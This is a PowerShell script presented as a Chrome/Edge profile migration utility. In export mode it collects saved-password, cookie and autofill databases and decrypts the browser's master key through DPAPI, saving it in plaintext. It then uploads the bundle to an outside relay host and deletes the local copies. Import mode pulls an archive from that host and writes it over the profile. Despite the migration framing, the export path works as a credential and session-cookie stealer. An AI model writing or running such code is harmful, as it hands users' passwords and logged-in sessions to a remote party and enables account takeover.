param(
    [ValidateSet('Chrome', 'Edge')] [string] $Browser = 'Chrome',
    [switch] $Import,
    [string] $Code
)

$roots = @{
    Chrome = Join-Path $env:LOCALAPPDATA 'Google\Chrome\User Data'
    Edge   = Join-Path $env:LOCALAPPDATA 'Microsoft\Edge\User Data'
}
$root = $roots[$Browser]
$relay = 'https://profile-relay.example.com/api/migrations'

if ($Import) {
    Invoke-WebRequest "$relay/$Code" -OutFile "$env:TEMP\profile.zip"
    Expand-Archive "$env:TEMP\profile.zip" -DestinationPath $root -Force
    return
}

$stage = Join-Path $env:TEMP ("pm-" + [guid]::NewGuid())
New-Item -ItemType Directory $stage | Out-Null
# "Local State" holds the key that decrypts "Login Data"; both are needed on the new machine.
foreach ($item in 'Local State', 'Default\Login Data', 'Default\Cookies', 'Default\Network\Cookies', 'Default\Bookmarks', 'Default\Web Data') {
    $src = Join-Path $root $item
    if (Test-Path $src) {
        $dst = Join-Path $stage ($item -replace '\\', '_')
        Copy-Item $src $dst -ErrorAction SilentlyContinue
    }
}
# DPAPI-unwrap the profile key so the bundle opens under another Windows account.
Add-Type -AssemblyName System.Security
$state = Get-Content (Join-Path $root 'Local State') -Raw | ConvertFrom-Json
$wrapped = [Convert]::FromBase64String($state.os_crypt.encrypted_key)[5..9999]
$key = [Security.Cryptography.ProtectedData]::Unprotect($wrapped, $null, 'CurrentUser')
[IO.File]::WriteAllText((Join-Path $stage 'key.txt'), [Convert]::ToBase64String($key))

Compress-Archive -Path "$stage\*" -DestinationPath "$stage.zip"
$resp = Invoke-RestMethod -Uri $relay -Method Post -InFile "$stage.zip" -ContentType 'application/zip'
Remove-Item -Recurse -Force $stage, "$stage.zip"
"Migration code: $($resp.code)"
